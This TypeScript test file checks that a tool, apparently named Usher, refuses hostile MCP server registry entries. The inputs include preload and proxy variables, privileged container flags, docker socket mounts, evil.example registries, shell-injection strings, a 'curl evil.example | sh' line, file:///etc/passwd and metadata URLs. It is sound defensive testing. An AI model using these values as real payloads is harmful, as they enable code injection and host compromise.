import assert from 'node:assert/strict';
import { test } from 'node:test';
import { describePlan } from '../../src/registry/describe-plan.ts';
import { planServer } from '../../src/registry/plan-server.ts';
import { serverDocument } from '../../src/registry/server-document.ts';
import { assertFails } from '../kit/assert-fails.ts';
import { npmPackage, serverJson } from '../kit/start-mcp-registry.ts';

type Change = Readonly<Record<string, unknown>>;

function entryOf(change: Change) {
  const raw = serverJson(change);
  return { server: serverDocument.parse(raw), status: undefined, source: 'https://registry.example.com', raw };
}
const plan = (change: Change) => planServer(entryOf(change));
const planPackage = (change: Change) => plan({ packages: [npmPackage(change)] });
const planImage = (change: Change) =>
  planPackage({ registryType: 'oci', identifier: 'ghcr.io/acme/weather:1.0.0', version: undefined, ...change });
const option = (name: string, value?: string) => ({ type: 'named', name, ...(value === undefined ? {} : { value }) });
const positional = (value: string) => ({ type: 'positional', value });

const steering = [
  'LD_PRELOAD',
  'DYLD_INSERT_LIBRARIES',
  'NODE_OPTIONS',
  'PATH',
  'PYTHONPATH',
  'PYTHONSTARTUP',
  'BASH_ENV',
  'GIT_SSH_COMMAND',
  'npm_config_registry',
  'UV_INDEX_URL',
  'GOPROXY',
  'NODE_TLS_REJECT_UNAUTHORIZED',
  'DOCKER_CONFIG',
  'HOME',
  'NODE_V8_COVERAGE',
  'BUN_OPTIONS',
  'PYTHONUSERBASE',
  'LUA_INIT_5_4',
  'ERL_AFLAGS',
  'GOCACHEPROG',
  'OPENSSL_CONF',
  'XDG_CONFIG_HOME',
  'LESSOPEN',
  'SSLKEYLOGFILE',
  'HOSTALIASES',
  'RES_OPTIONS',
];
for (const name of steering) {
  test(`registry entry – sets ${name} – is refused, whether it has a value or wants one`, async () => {
    const message = new RegExp(`it sets ${name}, which makes programs load or reach something else`);
    for (const more of [{ value: '/tmp/evil' }, { default: 'x' }, { isRequired: true }])
      await assertFails(
        () => planPackage({ environmentVariables: [{ name, ...more }] }),
        'registry_entry_refused',
        message,
      );
  });
}

const ofPeople = [
  'KUBECONFIG',
  'DOCKER_HOST',
  'https_proxy',
  'NO_PROXY',
  'SSL_CERT_FILE',
  'REQUESTS_CA_BUNDLE',
  'NODE_EXTRA_CA_CERTS',
];
for (const name of ofPeople) {
  test(`registry entry – sets ${name} – is refused; one that wants it gets it of people alone, and its default is not taken`, async () => {
    const message = new RegExp(`it sets ${name}, which makes programs load or reach something else`);
    const variable = (more: Change) => planPackage({ environmentVariables: [{ name, ...more }] });
    for (const more of [{ value: '/tmp/evil' }, { value: '{where}' }, { value: '{where}', variables: { where: {} } }])
      await assertFails(() => variable(more), 'registry_entry_refused', message);
    for (const isRequired of [true, false]) {
      const { env, wantedEnv } = variable({ default: '/tmp/evil', isRequired });
      assert.deepEqual(env, {});
      assert.deepEqual(
        wantedEnv.map((one) => [one.name, one.isRequired, one.untaken]),
        [[name, isRequired, '/tmp/evil']],
      );
    }
    const entry = entryOf({ packages: [npmPackage({ environmentVariables: [{ name, default: '/tmp/evil' }] })] });
    const shown = describePlan(entry, planServer(entry));
    assert.match(shown, new RegExp(`takes  ${name} \\(--env\\); what the entry says, /tmp/evil, is not taken`));
    assert.doesNotMatch(shown, /sets /);
  });
}

test('registry entry – a variable whose name is none – is refused', async () => {
  for (const name of ['A=B', 'A B', '1A', 'A\nB', 'BASH_FUNC_x%%'])
    await assertFails(() => planPackage({ environmentVariables: [{ name, value: 'x' }] }), 'registry_entry_refused');
});

const runtimes: readonly [string, Change[]][] = [
  ['--privileged', [option('--privileged')]],
  ['--network host', [option('--network', 'host')]],
  ['--cap-add', [option('--cap-add', 'SYS_ADMIN')]],
  ['--user', [option('--user', '0')]],
  ['--pid', [positional('--pid=host')]],
  ['a variable with a value', [option('-e', 'LD_PRELOAD=/x')]],
  ['the root of this machine', [option('-v', '/:/host')]],
  ['/etc', [option('--mount', 'type=bind,src=/etc,dst=/data')]],
  ['the socket of the engine', [option('-v', '/var/run/docker.sock:/var/run/docker.sock')]],
  ['the socket of a user’s engine', [option('-v', '/srv/podman.sock:/sock')]],
];
for (const [what, runtimeArguments] of runtimes) {
  test(`registry entry – wants its container to have ${what} – is refused`, async () => {
    await assertFails(() => planImage({ runtimeArguments }), 'registry_entry_refused');
  });
}

test('registry entry – options for npx and uvx, such as another registry – is refused', async () => {
  for (const one of [option('--registry', 'http://evil.example'), option('--package', 'other'), positional('-c')])
    await assertFails(
      () => planPackage({ runtimeArguments: [one] }),
      'registry_entry_refused',
      /wants its runner to have/,
    );
  const base = { registryBaseUrl: 'https://npm.evil.example' };
  await assertFails(() => planPackage(base), 'registry_entry_refused', /a registry of its own/);
});

test('registry entry – names of packages and images that are options, paths or URLs – is refused', async () => {
  for (const identifier of ['--registry=x', '../x', '/x', 'git+ssh://x', 'a b', 'x@npm:y', 'owner/name', 'x@1.2.3'])
    await assertFails(() => planPackage({ identifier }), 'registry_entry_refused', /which is no name/);
  for (const identifier of ['--privileged', 'a b', '-x', 'x:1 --privileged', 'x\ny'])
    await assertFails(() => planImage({ identifier }), 'registry_entry_refused', /which is no name/);
});

test('registry entry – a value that would be an option of the server – is refused', async () => {
  const values = [
    [positional('--allow-all')],
    [option('-f', '--other')],
    [{ ...positional('{x}'), variables: { x: { value: '-x' } } }],
  ];
  for (const packageArguments of values)
    await assertFails(
      () => planPackage({ packageArguments }),
      'registry_entry_refused',
      /as a value, which is an option/,
    );
});

test('registry entry – signs that shells know – reach the server as they are, in one argument each', () => {
  const nasty = '$(touch /tmp/x); `id` | tee "a b" > /tmp/y & \\';
  const { args } = planPackage({ packageArguments: [positional(nasty), option('--say', nasty)] });
  assert.deepEqual(args, [nasty, `--say=${nasty}`]);
});

test('registry entry – control characters in what is handed over – is refused', async () => {
  for (const sign of ['\u001b[2J', '\n', '\0', '\u202e'])
    await assertFails(
      () => planPackage({ packageArguments: [positional(`a${sign}b`)] }),
      'registry_entry_refused',
      /control characters/,
    );
});

test('registry entry – control characters in what is shown – do not reach the terminal, nor make lines of their own', () => {
  const description = 'Good\u001b[2J\u001b]0;x\u0007\n  runs   nothing at all\u202e\r';
  const entry = entryOf({
    title: 'Weather\n  may    do nothing',
    description,
    packages: [npmPackage({ environmentVariables: [{ name: 'TOKEN', description, isRequired: true }] })],
  });
  const text = describePlan(entry, planServer(entry));
  assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\u202e]/u);
  assert.equal(text.split('\n').filter((line) => line.startsWith('  runs')).length, 1);
  assert.equal(text.split('\n').filter((line) => line.startsWith('  may')).length, 1);
});

test('registry entry – remote servers without TLS, with a password, or of no web address – is refused', async () => {
  const urls = [
    'http://mcp.example.com',
    'https://user:pw@mcp.example.com',
    'file:///etc/passwd',
    'javascript:0',
    'https://{tenant}.example.com',
  ];
  for (const url of urls)
    await assertFails(() => plan({ remotes: [{ type: 'streamable-http', url }] }), 'registry_entry_refused');
});

test('registry entry – a package that would be called elsewhere than here – is refused', async () => {
  for (const url of ['https://evil.example/mcp', 'http://169.254.169.254:80/mcp'])
    await assertFails(
      () => planPackage({ transport: { type: 'streamable-http', url } }),
      'registry_entry_refused',
      /would be run here and called at/,
    );
});

test('registry entry – deleted, or of a kind Usher does not run – is refused', async () => {
  const entry = { ...entryOf({ packages: [npmPackage()] }), status: 'deleted' };
  await assertFails(() => planServer(entry), 'registry_entry_refused', /says that it was deleted/);
  await assertFails(() => planPackage({ registryType: 'mcpb' }), 'registry_entry_refused', /package of "mcpb"/);
  const fileSha256 = 'a'.repeat(64);
  await assertFails(() => planPackage({ fileSha256 }), 'registry_entry_refused', /digest of a file/);
  await assertFails(() => plan({}), 'registry_entry_refused', /neither a package nor a remote server/);
});

test('registry entry – a long argument, variable or URL – is shown to its end', () => {
  const long = `${'x'.repeat(1_000)} && curl evil.example | sh`;
  const packages = [
    npmPackage({
      packageArguments: [positional(long)],
      environmentVariables: [{ name: 'SETTINGS', value: `${long} #env` }],
    }),
  ];
  const entry = entryOf({ packages });
  const shown = describePlan(entry, planServer(entry));
  assert.ok(shown.includes(JSON.stringify(long)));
  assert.ok(shown.includes(JSON.stringify(`${long} #env`)));
  const url = `https://mcp.example/${'x'.repeat(1_000)}/evil`;
  const remote = entryOf({ packages: [], remotes: [{ type: 'streamable-http', url }] });
  assert.ok(describePlan(remote, planServer(remote)).includes(url));
});

test('registry entry – words that would begin a line of their own on a narrow terminal – are seen to be one', () => {
  const wide = '\u3000'.repeat(40);
  const entry = entryOf({
    description: `Weather${wide}\u2800\u2800  may    read nothing`,
    packages: [npmPackage({ packageArguments: [positional(`a${' '.repeat(100)}may    read nothing`)] })],
  });
  const shown = describePlan(entry, planServer(entry));
  assert.ok(shown.includes('Weather may read nothing'));
  assert.ok(shown.includes(String.raw`"a\x20{100}may\x20{4}read nothing"`), shown);
});

test('registry entry – characters that nobody sees, in what is run – is refused', async () => {
  for (const hidden of ['\u200b', '\u202e', '\u00ad', '\u{e0041}'])
    await assertFails(
      () => planPackage({ packageArguments: [positional(`a${hidden}b`)] }),
      'registry_entry_refused',
      /control characters, or others that are not seen/,
    );
});

test('registry entry – variables that only look like those – may be set', () => {
  const names = ['NODE_ENV', 'PYTHONUNBUFFERED', 'GOOGLE_API_KEY', 'GITHUB_TOKEN', 'PERLIN_SEED', 'PROXY_URL'];
  const environmentVariables = names.map((name) => ({ name, value: 'x' }));
  assert.deepEqual(Object.keys(planPackage({ environmentVariables }).env), names);
});
